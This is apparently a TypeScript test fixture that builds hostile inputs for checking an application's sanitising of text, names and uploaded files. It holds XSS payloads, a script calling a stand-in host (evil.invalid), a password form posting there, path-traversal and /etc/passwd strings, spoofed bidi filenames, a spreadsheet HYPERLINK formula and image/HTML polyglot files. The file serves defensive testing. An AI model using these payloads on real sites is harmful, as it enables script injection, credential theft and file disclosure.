import sharp from 'sharp';

/** What a script of the corpus does when it runs: leave a mark, and tell another site. */
const RUN = "window.__ran=1;fetch('https://evil.invalid/')";

/** Texts that ran, loaded, led away or lied somewhere, once. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `</textarea></title></style><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="https://evil.invalid/pixel.png">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}"/></svg>`,
  `<math><mtext></p><style><img src=x onerror="${RUN}"></style></mtext></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<a href="javascript:${RUN}">https://good.example</a>`,
  `<base href="https://evil.invalid/">`,
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
  '<link rel="stylesheet" href="https://evil.invalid/style.css">',
  '<style>@import url(https://evil.invalid/style.css); * { background: url(https://evil.invalid/b.png) }</style>',
  '<form action="https://evil.invalid/"><input name=password autofocus></form>',
  `<details open ontoggle="${RUN}">`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}//https://good.example`,
  `java\tscript:${RUN}`,
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'blob:https://evil.invalid/1',
  'file:///etc/passwd',
  'https://good.example@evil.invalid/',
  'https://good.example\\@evil.invalid',
  'https://evil.invalid/"onmouseover="window.__ran=1',
  "https://evil.invalid/'><script>window.__ran=1</script>",
  'https://xn--80ak6aa92e.com/',
  'https://[::1]/ http://0x7f000001/ https://evil.invalid\u3002example/',
  '{{constructor.constructor("window.__ran=1")()}}',
  '\u0024{window.__ran=1}',
  '%3Cscript%3Ewindow.__ran=1%3C/script%3E',
  '&lt;script&gt;window.__ran=1&lt;/script&gt;',
  '\u202egnp.exe\u202c \u202efdp.cilbup\u202c',
  '\u2066\u2067\u2068 unclosed',
  'z\u200be\u200cr\u200do\u2060 w\ufeffidth',
  `Z${'\u0300\u0489'.repeat(1_500)}algo`,
  'W'.repeat(4_990),
  'ကြီး'.repeat(1_000),
  '\u{e0001}\u{e0073}\u{e0063} tags',
  '=HYPERLINK("https://evil.invalid/")',
  '__proto__',
  '[object Object]',
  'null',
];

/** Names for people, pages and friends. */
export const HOSTILE_NAMES = {
  person: `<img src=x onerror="window.__ran=1">\u202e`,
  page: `"><svg onload="window.__ran=1">\u2067`,
  nickname: `</div><script>window.__ran=1</script>`,
};

interface HostileFile {
  name: string;
  type: string;
  content: Uint8Array<ArrayBuffer>;
  /** Whether it is a picture by its content, and hence shown. */
  isPicture: boolean;
}

const text = (content: string) => new Uint8Array(Buffer.from(content, 'latin1'));
const PAGE = `<!doctype html><script>${RUN}</script>`;

/** Files whose names or contents pretend. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const red = sharp({ create: { width: 64, height: 48, channels: 3, background: 'red' } });
  const jpeg = await red
    .clone()
    .withExif({ IFD0: { ImageDescription: PAGE, Copyright: PAGE }, IFD3: { GPSLatitude: '16/1 48/1 0/1' } })
    .jpeg()
    .toBuffer();
  const png = await red.clone().png().toBuffer();
  const gif = await red.clone().gif().toBuffer();
  const isPicture = true;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`;
  return [
    { name: 'page.html', type: 'text/html', content: text(PAGE), isPicture: false },
    { name: 'page.png', type: 'image/png', content: text(PAGE), isPicture: false },
    { name: 'drawing.svg', type: 'image/svg+xml', content: text(svg), isPicture: false },
    { name: 'drawing.png', type: 'image/svg+xml', content: text(svg), isPicture: false },
    { name: '\u202egnp.exe', type: 'image/png', content: text('MZ not a picture'), isPicture: false },
    {
      name: `<img src=x onerror="window.__ran=1">.pdf`,
      type: 'application/pdf',
      content: text('%PDF'),
      isPicture: false,
    },
    { name: '../../../etc/passwd', type: 'text/plain', content: text('x'), isPicture: false },
    { name: 'a"; filename="b.html', type: 'text/html', content: text(PAGE), isPicture: false },
    { name: `${'long'.repeat(100)}.txt`, type: 'text/plain', content: text('x'), isPicture: false },
    { name: 'half.png', type: 'image/png', content: new Uint8Array(png.subarray(0, 60)), isPicture: false },
    // A picture and a page, a picture and a script, a picture with a page in its description.
    { name: 'both.png', type: 'text/html', content: new Uint8Array(Buffer.concat([png, text(PAGE)])), isPicture },
    {
      name: 'both.html',
      type: 'text/html',
      content: new Uint8Array(Buffer.concat([gif, text(`/*${PAGE}*/`)])),
      isPicture,
    },
    { name: 'where.jpg', type: 'image/jpeg', content: new Uint8Array(jpeg), isPicture },
  ];
}
